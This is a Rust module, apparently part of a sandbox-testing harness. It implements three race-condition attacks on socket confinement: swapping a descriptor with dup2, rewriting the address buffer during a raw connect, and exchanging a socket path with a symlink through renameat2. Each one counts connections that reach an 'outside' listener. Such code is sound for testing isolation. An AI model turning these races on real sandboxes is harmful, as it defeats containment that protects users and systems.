//! Races: one thread connects while another replaces the descriptor, the address or the file.

use std::ffi::CString;
use std::io::{self, Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};

use crate::attack::call;
use crate::unix::{address, connect, connected, internet_address, socket};

/// Whether the listener outside answers.
fn is_outside(socket: &OwnedFd) -> bool {
    let mut stream = std::fs::File::from(match socket.try_clone() {
        Ok(socket) => socket,
        Err(_) => return false,
    });
    let mut heard = [0; 7];
    stream.write_all(b"hello").is_ok() && stream.read_exact(&mut heard).is_ok() && heard == *b"outside"
}

/// One thread connects a descriptor while another replaces it with sockets of both families.
pub(crate) fn swap_descriptors(inside: &str, outside: &str, port: u16, rounds: usize) -> io::Result<String> {
    let stop = AtomicBool::new(false);
    let (mut reached, mut connected_inside) = (0, 0);
    let shared = socket(libc::AF_INET, libc::SOCK_STREAM)?;
    let internet = internet_address(port);
    let number = shared.as_raw_fd();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                for family in [libc::AF_UNIX, libc::AF_INET] {
                    if let Ok(fresh) = socket(family, libc::SOCK_STREAM) {
                        // SAFETY: both numbers are open; the old socket under the number is closed.
                        unsafe { libc::dup2(fresh.as_raw_fd(), number) };
                    }
                }
            }
        });
        for round in 0..rounds {
            let to = [address(outside), internet.clone(), address(inside)];
            let done = connect(number, &to[round % 3]).is_ok();
            // Check the socket that the number refers to now.
            if let Ok(taken) = shared.try_clone() {
                reached +=
                    usize::from(is_unix(&taken) && peer(&taken).is_some_and(|peer| peer.ends_with(b"outside\0")));
                connected_inside += usize::from(done);
            }
        }
        stop.store(true, Ordering::Relaxed);
    });
    Ok(format!("{reached} outside, {}", if connected_inside > 0 { "some connected" } else { "none connected" }))
}

fn is_unix(socket: &OwnedFd) -> bool {
    let (mut family, mut length) = (0_i32, 4_u32);
    // SAFETY: both outlive the call.
    let result = unsafe {
        libc::getsockopt(
            socket.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_DOMAIN,
            (&raw mut family).cast(),
            &raw mut length,
        )
    };
    result == 0 && family == libc::AF_UNIX
}

/// The bytes of the address that a socket is connected to.
fn peer(socket: &OwnedFd) -> Option<Vec<u8>> {
    let (mut bytes, mut length) = (vec![0_u8; 128], 128_u32);
    // SAFETY: both outlive the call, and the length is that of the bytes.
    let result = unsafe { libc::getpeername(socket.as_raw_fd(), bytes.as_mut_ptr().cast(), &raw mut length) };
    bytes.truncate(usize::try_from(length).unwrap_or(0));
    (result == 0).then_some(bytes)
}

/// One thread connects to an address while another changes it. Both paths have the same length.
pub(crate) fn swap_addresses(inside: &str, outside: &str, rounds: usize) -> String {
    struct Shared(*mut u8);
    // SAFETY: the kernel reads what the other thread writes; that is the attack.
    unsafe impl Sync for Shared {}
    impl Shared {
        fn put(&self, bytes: &[u8]) {
            for (index, byte) in bytes.iter().enumerate() {
                // SAFETY: the memory is as long as either address.
                unsafe { self.0.add(index).write_volatile(*byte) };
            }
        }
    }
    let both = [address(inside), address(outside)];
    assert_eq!(both[0].len(), both[1].len(), "paths of one length");
    let mut memory = both[0].clone();
    let shared = Shared(memory.as_mut_ptr());
    let stop = AtomicBool::new(false);
    let (mut reached, mut inside) = (0, 0);
    std::thread::scope(|scope| {
        let (shared, stop) = (&shared, &stop);
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                for address in &both {
                    shared.put(address);
                }
            }
        });
        for _ in 0..rounds {
            let Ok(socket) = socket(libc::AF_UNIX, libc::SOCK_STREAM) else { continue };
            if call!(libc::SYS_connect, socket.as_raw_fd(), shared.0, both[0].len()).is_ok() {
                let outside = is_outside(&socket);
                reached += usize::from(outside);
                inside += usize::from(!outside);
            }
        }
        stop.store(true, Ordering::Relaxed);
    });
    format!("{reached} outside, {}", if inside > 0 { "some connected" } else { "none connected" })
}

/// One thread connects to a path while another exchanges the socket there with a link to the one outside.
pub(crate) fn swap_files(inside: &str, outside: &str, rounds: usize) -> io::Result<String> {
    let (link, real) = (format!("{inside}-link"), format!("{inside}-real"));
    std::os::unix::fs::symlink(outside, &link)?;
    std::fs::hard_link(inside, &real)?;
    let text = |path: &str| CString::new(path).unwrap_or_default();
    let (first, second) = (text(inside), text(&link));
    let stop = AtomicBool::new(false);
    let (mut reached, mut connected_inside) = (0, 0);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                let exchange = call!(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    first.as_ptr(),
                    libc::AT_FDCWD,
                    second.as_ptr(),
                    libc::RENAME_EXCHANGE
                );
                if exchange.is_err() {
                    return;
                }
            }
        });
        for _ in 0..rounds {
            if let Ok(socket) = connected(inside, libc::SOCK_STREAM) {
                let outside = is_outside(&socket);
                reached += usize::from(outside);
                connected_inside += usize::from(!outside);
            }
        }
        stop.store(true, Ordering::Relaxed);
    });
    Ok(format!("{reached} outside, {}", if connected_inside > 0 { "some connected" } else { "none connected" }))
}
